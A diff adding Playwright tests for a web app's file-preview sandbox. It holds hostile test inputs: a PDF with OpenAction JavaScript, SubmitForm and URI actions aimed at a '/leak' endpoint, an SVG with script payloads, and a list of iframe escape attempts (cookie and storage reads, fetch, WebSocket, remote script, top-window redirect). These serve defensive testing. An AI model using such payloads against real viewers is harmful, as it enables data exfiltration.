@@ -1,0 +1,219 @@
+import { deflateSync } from 'node:zlib'
+import type { FrameLocator, Locator, Page } from 'playwright/test'
+import { previews as words } from '../widget/ui/strings/en/previews.ts'
+import { makePdf } from './harness/pdfs.ts'
+import { note, reveal } from './harness/reading.ts'
+import { expect, test } from './harness/test.ts'
+
+/** One red pixel. */
+const PIXEL = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
+  'base64',
+)
+
+/** A PNG of these sides, the data of which is `data`. */
+function png(width: number, height: number, data = deflateSync(Buffer.alloc(64))): Buffer {
+  const head = Buffer.concat([PIXEL.subarray(0, 16), Buffer.alloc(8), PIXEL.subarray(24, 33)])
+  head.writeUInt32BE(width, 16)
+  head.writeUInt32BE(height, 20)
+  const length = Buffer.alloc(4)
+  length.writeUInt32BE(data.length)
+  return Buffer.concat([head, length, Buffer.from('IDAT'), data, Buffer.alloc(4)])
+}
+
+/** Reveals a note with files, and has each looked at. */
+async function lookAt(page: Page, link: string): Promise<void> {
+  await page.goto(link)
+  await reveal(page)
+  await expect(note(page)).toBeVisible()
+  for (const details of await page.locator('.files details:not([open])').all())
+    await details.locator('summary').click()
+}
+
+const frameOf = (page: Page): FrameLocator => page.frameLocator('iframe.preview')
+
+const pdf = (content: string, name = 'pages.pdf') => ({ name, type: 'application/pdf', content })
+
+/** The part of a canvas that is dark, in its middle half and in all of it. */
+const ink = (canvas: Locator): Promise<[middle: number, all: number]> =>
+  canvas.evaluate((element) => {
+    const canvas = element as HTMLCanvasElement
+    const { width, height } = canvas
+    const context = canvas.getContext('2d') as CanvasRenderingContext2D
+    const dark = (x: number, y: number, w: number, h: number) => {
+      const { data } = context.getImageData(x, y, w, h)
+      let count = 0
+      for (let i = 0; i < data.length; i += 4) if ((data[i] ?? 255) < 128) count++
+      return count / (w * h)
+    }
+    const [w, h] = [Math.floor(width / 2) - 2, Math.floor(height / 2) - 2]
+    return [dark(Math.ceil(width / 4) + 1, Math.ceil(height / 4) + 1, w, h), dark(0, 0, width, height)]
+  })
+
+test('a PDF is shown as images of its pages, a few at a time, and is loaded when asked for', async ({
+  page,
+  make,
+}) => {
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(request.url()))
+  await page.goto(await make({ files: [pdf(makePdf({ pages: 20 }))] }))
+  await reveal(page)
+  await expect(page.getByText('pages.pdf')).toBeVisible()
+  expect(asked.join()).not.toMatch(/look-page|pdf-frame/)
+  await page.getByText('Look at it').click()
+  const canvases = frameOf(page).locator('canvas')
+  await expect(canvases.first()).toBeVisible()
+  const [middle, all] = await ink(canvases.first())
+  expect(middle).toBeGreaterThan(0.99)
+  expect(all).toBeCloseTo(0.25, 1)
+  expect(await canvases.count()).toBeLessThan(7)
+  await frameOf(page).locator('body > div').last().scrollIntoViewIfNeeded()
+  const last = frameOf(page).getByRole('img', { name: '20 / 20' })
+  await expect(last).toBeVisible()
+  expect((await ink(last))[0]).toBeGreaterThan(0.99)
+  expect(await canvases.count()).toBeLessThan(7)
+})
+
+test('a PDF with fonts of its own is drawn with them', async ({ page, make, browser }) => {
+  const context = await browser.newContext()
+  const printing = await context.newPage()
+  await printing.setContent('<p style="font: 90px serif; margin: 2rem">Ashnote &alpha;&beta; ☂</p>')
+  const printed = await printing.pdf({ width: '600px', height: '200px' })
+  await context.close()
+  expect(printed.toString('latin1')).toContain('/FontFile')
+  const file = { name: 'printed.pdf', type: 'application/pdf', content: printed }
+  await lookAt(page, await make({ files: [file] }))
+  const canvas = frameOf(page).locator('canvas')
+  await expect(canvas).toBeVisible()
+  const [, all] = await ink(canvas)
+  expect(all).toBeGreaterThan(0.03)
+  expect(all).toBeLessThan(0.3)
+})
+
+test('nothing that a PDF would do is done', async ({ page, make, wire }) => {
+  const away = `${wire.origin}/leak`
+  const script = `(app.launchURL\\("${away}"\\); this.submitForm\\("${away}"\\); app.alert\\("fired"\\))`
+  const content = makePdf({
+    catalogue: `/OpenAction << /S /JavaScript /JS ${script} >> /AcroForm << /XFA (<xdp/>) /Fields [4 0 R] >>
+      /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >>`,
+    page: `/Annots [4 0 R 5 0 R] /AA << /O << /S /URI /URI (${away}) >> >>`,
+    objects: [
+      `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 400 400] /A << /S /SubmitForm /F (${away}) >> >>`,
+      `<< /Type /Annot /Subtype /Link /Rect [0 0 400 400] /A << /S /URI /URI (${away}) >> >>`,
+    ],
+  })
+  await lookAt(page, await make({ files: [pdf(content)] }))
+  const canvas = frameOf(page).locator('canvas')
+  await expect(canvas).toBeVisible()
+  const address = page.url()
+  page.on('dialog', () => expect(false, 'a dialogue').toBe(true))
+  await canvas.click()
+  expect(await frameOf(page).locator('a, input, button, form, iframe, section, script[src]').count()).toBe(0)
+  expect(page.url()).toBe(address)
+  expect(page.context().pages()).toHaveLength(1)
+  expect(wire.takeSent().toString()).not.toContain('leak')
+})
+
+const LOCKED = `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'00'.repeat(32)}> /U <${'11'.repeat(32)}> >> /ID [<00> <00>]`
+
+const REFUSED = [
+  ['a broken PDF', '%PDF-1.7 and nothing else', 'broken'],
+  ['a PDF with a password', makePdf({ trailer: LOCKED }), 'locked'],
+  ['a PDF of many pages', makePdf({ pages: 301 }), 'too-large'],
+  ['an image of gigabytes', png(60_000, 60_000), 'too-large'],
+  ['what only begins as an image', png(100, 100, Buffer.from('no such data')).subarray(0, 20), 'broken'],
+  [
+    'what is no JPEG',
+    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 2, 0xff, 0xc0, 0, 11, 8, 0, 9, 0, 9]),
+    'broken',
+  ],
+] as const
+
+for (const [what, content, why] of REFUSED)
+  test(`${what} gets a sentence`, async ({ page, make }) => {
+    await lookAt(page, await make({ files: [{ name: 'x', type: 'image/png', content }] }))
+    await expect(page.getByText(words.notShown[why])).toBeVisible()
+    await expect(page.locator('iframe')).toHaveCount(0)
+    await expect(page.getByRole('button', { name: 'Save x' })).toBeEnabled()
+  })
+
+test('SVG and HTML are shown as the text that they are', async ({ page, make }) => {
+  const content =
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="top.fired = 1"><script>top.fired = 1</script></svg>'
+  await lookAt(page, await make({ files: [{ name: 'x.png', type: 'image/png', content }] }))
+  await expect(frameOf(page).locator('pre')).toHaveText(content)
+  expect(await frameOf(page).locator('svg').count()).toBe(0)
+  expect(await page.evaluate(() => 'fired' in window)).toBe(false)
+})
+
+const FRAMED = [
+  ['a text', 'pre', { name: 'x.txt', type: 'text/plain', content: 'what is seen' }],
+  ['a PDF', 'canvas', pdf(makePdf())],
+] as const
+
+for (const [what, shown, file] of FRAMED)
+  test(`whatever took over the frame of ${what} could reach nothing`, async ({
+    page: watched,
+    make,
+    browser,
+    wire,
+  }) => {
+    const link = await make({ files: [file] })
+    // Not the watched page: what is refused here would be complained of.
+    void watched
+    const context = await browser.newContext()
+    const page = await context.newPage()
+    await lookAt(page, link)
+    const inside = frameOf(page).locator(shown)
+    await expect(inside).toBeVisible()
+    wire.takeSent()
+    const reached = await inside.evaluate(async (_, away) => {
+      const tries: Record<string, () => unknown> = {
+        parent: () => parent.document.body.innerHTML,
+        address: () => parent.location.href,
+        storage: () => localStorage.length,
+        cookies: () => document.cookie,
+        database: () =>
+          new Promise((done, fail) => Object.assign(indexedDB.open('x'), { onsuccess: done, onerror: fail })),
+        files: () => navigator.storage.getDirectory(),
+        fetch: () => fetch(`${away}/fetch`),
+        socket: () =>
+          new Promise((done, fail) =>
+            Object.assign(new WebSocket(`${away.replace('http', 'ws')}/ws`), { onopen: done, onerror: fail }),
+          ),
+        image: () =>
+          new Promise((done, fail) =>
+            Object.assign(new Image(), { onload: done, onerror: fail, src: `${away}/pixel.png` }),
+          ),
+        script: () =>
+          new Promise((done, fail) =>
+            document.head.append(
+              Object.assign(document.createElement('script'), {
+                onload: done,
+                onerror: fail,
+                src: `${away}/leak.js`,
+              }),
+            ),
+          ),
+        eval: () => new Function('return 1')(),
+        top: () => {
+          if (top) top.location.href = `${away}/top`
+        },
+        popup: () => {
+          if (!open(`${away}/popup`)) throw new Error('none')
+        },
+      }
+      const reached: string[] = []
+      for (const [name, attempt] of Object.entries(tries)) {
+        try {
+          await attempt()
+          reached.push(name)
+        } catch {}
+      }
+      return [self.origin, ...reached]
+    }, `${wire.origin}/leak`)
+    expect(reached).toEqual(['null'])
+    expect(wire.takeSent().toString()).not.toContain('leak')
+    expect(page.url()).toBe(link)
+    await context.close()
+  })
